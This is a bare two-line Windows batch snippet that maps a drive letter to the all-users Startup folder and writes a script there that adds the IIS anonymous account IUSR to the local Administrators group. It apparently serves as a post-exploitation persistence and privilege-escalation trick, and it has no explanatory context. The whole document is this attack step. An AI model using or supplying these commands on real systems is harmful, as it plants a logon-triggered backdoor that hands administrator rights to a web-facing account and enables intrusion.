subst Y: "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp"
echo net localgroup Administrators IUSR /add > Y:\setup.cmd
